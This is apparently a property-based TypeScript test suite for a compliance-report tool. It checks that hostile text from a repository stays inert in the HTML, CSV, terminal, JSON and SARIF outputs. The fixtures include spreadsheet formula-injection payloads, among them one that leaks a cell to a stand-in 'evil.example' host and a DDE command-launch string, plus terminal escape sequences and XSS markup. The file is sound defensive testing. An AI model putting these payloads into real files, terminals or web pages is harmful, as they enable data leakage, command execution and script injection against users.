// What a hostile repository writes into its reports stays inert where the reports go: HTML is
// escaped, spreadsheet formulas stay text, terminal escape sequences do not reach the terminal, and
// JSON and SARIF parse back to the text that was written.

import assert from 'node:assert/strict';
import fc from 'fast-check';
import { locateFinding, type ComplianceWorkspace } from '../../server/src/core/index/workspace';
import { coverageCsv, coverageHtml, coverageJson, coverageMarkdown, coverageText } from '../../server/src/core/report/coverage';
import { buildMatrix } from '../../server/src/core/report/matrix';
import { MATRIX_TABLES } from '../../server/src/core/report/tables';
import { formatJson, formatSarif, formatText, type LocatedFinding } from '../../server/src/core/report/findings';
import { joinLines, workspaceOf } from '../helpers';
import { fcOptions } from './support';

const FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"click")', "=cmd|' /C calc'!A0", '+1+2', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1'];
const ESCAPES = ['\u001b]0;owned\u0007', '\u001b[2J\u001b[H', '\u001b]52;c;ZWNobyBvd25lZA==\u0007', '\u009b31m', 'safe\u202ereversed\u202c', '\r overwrite'];

function repository(id: string, title: string, justification: string): ComplianceWorkspace {
  const yaml = (s: string): string => JSON.stringify(s);
  return workspaceOf({
    'compliance-docs.yml': joinLines('not_applicable:', `  CC6.4: ${yaml(justification)}`, ''),
    'controls/hostile.md': joinLines('---', `id: ${yaml(id)}`, 'type: control', `title: ${yaml(title)}`, `owner: ${yaml(title)}`, 'criteria: [CC6.1, CC9.9]', `controls: [${yaml(id)}]`, '---', '', `# ${title}`, ''),
  });
}

function findingsOf(ws: ComplianceWorkspace): LocatedFinding[] {
  return [...ws.allFindings()].map((f) => {
    const range = locateFinding(ws, f);
    return { path: f.path, code: f.code, severity: f.severity, message: f.message, ...(range ? { range } : {}) };
  });
}

function csvCells(csv: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const ch = csv[i];
    if (quoted) {
      if (ch === '"' && csv[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',' || ch === '\n') {
      cells.push(cell.replace(/\r$/, ''));
      cell = '';
    } else cell += ch;
  }
  return cells;
}

/** No control characters but line breaks and tabs, no bidirectional overrides. */
const TERMINAL_SAFE = /^[^\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]*$/;

function checkReports(ws: ComplianceWorkspace, inputs: readonly string[]): void {
  const report = ws.coverage();
  const matrix = buildMatrix(ws, report);
  const meta = { today: '2026-11-16', title: inputs[0] };

  const html = coverageHtml(matrix, meta);
  for (const input of inputs) if (/<[a-z!/?]/i.test(input)) assert.ok(!html.includes(input), `HTML shows ${JSON.stringify(input)} unescaped`);
  assert.doesNotMatch(html, /<script|<[^>]*\son\w+\s*=|(?:href|src)\s*=\s*["']?\s*javascript:/i);

  for (const table of MATRIX_TABLES) for (const cell of csvCells(coverageCsv(matrix, table))) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `CSV cell ${JSON.stringify(cell)} would run as a formula`);

  for (const text of [coverageText(report), formatText(findingsOf(ws))]) assert.match(text, TERMINAL_SAFE, 'terminal output carries control characters');

  const json = JSON.parse(formatJson(findingsOf(ws), { root: '/repo', today: '2026-11-16' })) as { findings: Array<{ message: string }> };
  assert.deepEqual(
    json.findings.map((f) => f.message),
    findingsOf(ws).map((f) => f.message),
  );
  JSON.parse(formatSarif(findingsOf(ws), { version: '0.0.0', severityOf: (c) => ws.severityOf(c) }));
  JSON.parse(coverageJson(matrix));
  coverageMarkdown(matrix, meta);
}

describe('hostile text in reports', () => {
  it('keeps formulas, markup and terminal escapes from ids, titles and justifications inert', () => {
    const markup = '<script>alert(1)</script><img src=x onerror=alert(2)>"&';
    for (const formula of FORMULAS) {
      const ws = repository(formula, `${markup} ${ESCAPES.join(' ')}`, formula);
      checkReports(ws, [formula, markup]);
      const row = coverageCsv(buildMatrix(ws))
        .split('\r\n')
        .find((l) => l.startsWith('CC6.1,'));
      // Ids are trimmed when read.
      assert.ok(row?.includes(`'${formula.trim().replace(/"/g, '""')}`), `the id is kept, as text: ${row}`);
    }
    const text = formatText([{ path: 'controls/x\u001b[2J.md', code: 'field-invalid', severity: 'error', message: 'status is \u001b]0;owned\u0007, not a status' }]);
    assert.ok(text.includes('controls/x\\x1b[2J.md') && text.includes('status is \\x1b]0;owned\\x07, not a status'), `escape sequences print as visible text: ${JSON.stringify(text)}`);
  });

  it('keeps any text inert, whatever a document or the config holds', () => {
    const unit = fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c));
    const nasty = fc.oneof(fc.string({ unit, maxLength: 30 }), fc.constantFrom(...FORMULAS, ...ESCAPES, '<b>', '"quoted"', 'a,b', '|pipe|'));
    fc.assert(
      fc.property(nasty, nasty, nasty, (id, title, justification) => {
        checkReports(repository(id, title, justification), [id, title, justification].filter((s) => s.trim() !== ''));
      }),
      fcOptions(150),
    );
  });
});
